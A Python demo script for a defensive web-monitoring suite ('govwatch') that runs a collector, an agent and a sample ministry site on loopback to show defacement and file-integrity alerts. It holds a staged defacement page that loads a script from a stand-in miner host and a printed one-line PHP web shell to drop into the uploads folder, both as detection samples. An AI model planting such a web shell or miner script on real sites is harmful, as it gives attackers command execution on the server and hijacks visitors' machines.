#!/usr/bin/env python3
"""`make demo`: the whole suite on loopback — a collector, one agent and a sample ministry web site.

Everything lives in .demo/ (recreated each run). Prints where to look and runs until Ctrl-C.
`make demo ARGS=--deface` replaces the home page with a defacement 25 s after start, to show the alert.
"""

from __future__ import annotations

import argparse
import datetime as dt
import http.server
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import requests
import yaml

ROOT = Path(__file__).resolve().parent.parent
DEMO = ROOT / ".demo"
PORTS = ROOT / ".demo-ports.json"  # outside .demo/, which every start recreates
GOVWATCH = [sys.executable, "-m", "govwatch.cli"]

HOME = """<!doctype html>
<html lang="km"><head><meta charset="utf-8"><title>Ministry of Post and Telecommunications</title>
<link rel="stylesheet" href="/style.css?v={build}"></head>
<body><header><img src="/logo.png" alt="MPTC logo"><h1>ក្រសួងប្រៃសណីយ៍និងទូរគមនាគមន៍</h1>
<h2>Ministry of Post and Telecommunications</h2></header>
<nav><a href="/">Home</a> <a href="/news.html">News</a> <a href="/services.html">Online services</a></nav>
<main><p>Today: {today} &middot; visitors: {visitors}</p>
<ul>{news}</ul></main>
<footer>Phnom Penh, Kingdom of Cambodia &middot; &copy; 2026 MPTC</footer></body></html>
"""
DEFACED = """<html><head><title>HACKED</title></head><body bgcolor="black"><center>
<h1><font color="red">Hacked by Cyb3r Gh0st Team</font></h1><p>Your security is low. Greetz to all members.</p>
<marquee>We are anonymous</marquee><script src="https://evil-miner.example/c.js"></script></center></body></html>
"""
NEWS = ["Digital government forum opens in Phnom Penh", "New e-services for business registration",
        "Cybersecurity week: protect your accounts", "Postal network reaches every commune",
        "Telecom licence renewals now online", "Khmer Unicode keyboard update released"]


def free_port(preferred: int) -> int:
    """`preferred` if nothing listens on it (a port in TIME_WAIT from the last run counts as free: the
    servers bind with SO_REUSEADDR too), else any free port."""
    for port in (preferred, 0):
        with socket.socket() as sock:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            try:
                sock.bind(("127.0.0.1", port))
                return sock.getsockname()[1]
            except OSError:
                continue
    raise SystemExit("no free port")


def last_ports(defaults: dict[str, int]) -> dict[str, int]:
    """The ports of the previous run (so the URLs printed last time still work), else the defaults."""
    try:
        saved = json.loads(PORTS.read_text())
        return {k: int(saved.get(k, v)) for k, v in defaults.items()}
    except (OSError, ValueError, TypeError, AttributeError):
        return dict(defaults)


def make_site(www: Path) -> None:
    www.mkdir(parents=True)
    (www / "index.html").write_text(HOME)
    (www / "style.css").write_text("body{font-family:'Khmer OS',sans-serif;max-width:60em;margin:auto}")
    (www / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n" + os.urandom(64))
    for page in ("news", "services"):
        (www / f"{page}.html").write_text(f"<h1>{page.title()}</h1><p>Ministry of Post and Telecommunications</p>")
    (www / "uploads").mkdir()


class SiteHandler(http.server.SimpleHTTPRequestHandler):
    """Serves the sample site; the home page is a template re-rendered on each load (dates, counters, news)."""

    visitors = 1000

    def do_GET(self) -> None:  # noqa: N802 (http.server naming)
        if self.path.split("?")[0] not in ("/", "/index.html"):
            return super().do_GET()
        text = (Path(self.directory) / "index.html").read_text()
        SiteHandler.visitors += 1
        rotated = NEWS[self.visitors % 3:] + NEWS[: self.visitors % 3]
        body = text.replace("{today}", dt.datetime.now().strftime("%d %B %Y %H:%M:%S")).replace(
            "{visitors}", str(self.visitors)).replace("{build}", str(int(time.time()) // 60)).replace(
            "{news}", "".join(f"<li><a href='/news.html'>{n}</a></li>" for n in rotated[:4])).encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args) -> None:
        pass


def serve_site(www: Path, port: int) -> http.server.ThreadingHTTPServer:
    handler = lambda *a, **k: SiteHandler(*a, directory=str(www), **k)  # noqa: E731
    server = http.server.ThreadingHTTPServer(("127.0.0.1", port), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def setup(collector_port: int, site_port: int) -> tuple[Path, Path]:
    shutil.rmtree(DEMO, ignore_errors=True)
    www = DEMO / "www"
    make_site(www)
    subprocess.run([*GOVWATCH, "collector", "init", "--data-dir", str(DEMO / "collector")], check=True,
                   stdout=subprocess.DEVNULL)
    config = DEMO / "collector" / "collector.yml"
    cfg = yaml.safe_load(config.read_text())
    cfg.pop("tls")  # plain HTTP is allowed on loopback only; a real install keeps TLS (see README)
    site_url = f"http://127.0.0.1:{site_port}/"
    cfg.update(listen=f"127.0.0.1:{collector_port}", sites=[
        {"name": "mptc-home", "url": site_url, "ministry": "MPTC", "interval": "5s", "confirm_failures": 2,
         "web_root": f"mptc-web-01:{www}"}])
    config.write_text(yaml.safe_dump(cfg, sort_keys=False))
    agent = {"name": "mptc-web-01", "ministry": "MPTC",
             "collector": {"url": f"http://127.0.0.1:{collector_port}",
                           "credentials": str(DEMO / "agent-credentials.json")},
             "spool": str(DEMO / "agent" / "spool.db"), "heartbeat": "5s",
             "fim": {"paths": [str(www)]},
             "defacement": {"sites": [{"name": "mptc-home", "url": site_url, "interval": "3s"}]},
             "traffic": {"interface": "lo"}}
    agent_config = DEMO / "agent.yml"
    agent_config.write_text(yaml.safe_dump(agent, sort_keys=False))
    return config, agent_config


def start(args: list[str], log: str) -> subprocess.Popen:
    out = open(DEMO / log, "a")
    return subprocess.Popen([*GOVWATCH, *args], stdout=out, stderr=out, start_new_session=True)


def wait_healthy(url: str) -> None:
    for _ in range(100):
        try:
            if requests.get(f"{url}/healthz", timeout=1).ok:
                return
        except requests.RequestException:
            time.sleep(0.1)
    raise SystemExit(f"collector did not start; see {DEMO / 'collector.log'}")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--deface", action="store_true", help="stage a defacement of the home page after 25 s")
    parser.add_argument("--port", type=int, default=None,
                        help="collector port (default: the port of the last run, first 8443; else any free port)")
    args = parser.parse_args()
    wanted = last_ports({"collector": 8443, "site": 8080})
    if args.port is not None:
        wanted["collector"] = args.port
    collector_port, site_port = free_port(wanted["collector"]), free_port(wanted["site"])
    PORTS.write_text(json.dumps({"collector": collector_port, "site": site_port}) + "\n")
    config, agent_config = setup(collector_port, site_port)
    site = serve_site(DEMO / "www", site_port)
    url = f"http://127.0.0.1:{collector_port}"
    procs = [start(["collector", "run", "-c", str(config)], "collector.log")]
    wait_healthy(url)
    key = (DEMO / "collector" / "enroll-key").read_text().strip()
    subprocess.run([*GOVWATCH, "agent", "enroll", "--collector", url, "--enroll-key", key, "--name", "mptc-web-01",
                    "--ministry", "MPTC", "--out", str(DEMO / "agent-credentials.json")], check=True,
                   stdout=subprocess.DEVNULL)
    procs.append(start(["agent", "run", "-c", str(agent_config)], "agent.log"))
    token = (DEMO / "collector" / "admin-token").read_text().strip()
    print(f"""
govwatch demo is running (everything in {DEMO}):
  console      {url}/            first login: admin token {token}
  metrics      {url}/metrics
  sample site  http://127.0.0.1:{site_port}/   (web root {DEMO / 'www'}, watched by agent mptc-web-01)
  logs         {DEMO}/collector.log, {DEMO}/agent.log
Try: deface it yourself:  echo '<h1>Hacked by demo</h1>' > {DEMO / 'www' / 'index.html'}
     drop a web shell:    echo '<?php system($_GET["c"]); ?>' > {DEMO / 'www' / 'uploads' / 'x.php'}
     then watch {url}/metrics (govwatch_defacement_detected, govwatch_fim_changes_total) and the console;
     the incident page prints the command that undoes it, e.g.
       govwatch fim restore -c {agent_config} {DEMO / 'www' / 'index.html'}
       govwatch fim quarantine -c {agent_config} {DEMO / 'www' / 'uploads' / 'x.php'}
Ctrl-C stops everything.""", flush=True)
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    try:
        if args.deface and not stop.wait(25):
            (DEMO / "www" / "index.html").write_text(DEFACED)
            print("demo: home page defaced now; the alert shows in /metrics and the console within seconds", flush=True)
        while not stop.wait(1):
            if any(p.poll() is not None for p in procs):
                print("demo: a process exited; see the logs in .demo/", flush=True)
                break
    except KeyboardInterrupt:
        pass
    finally:
        for proc in procs:
            if proc.poll() is None:
                proc.terminate()
        for proc in procs:
            proc.wait(10)
        site.shutdown()
        print("demo stopped")


if __name__ == "__main__":
    main()
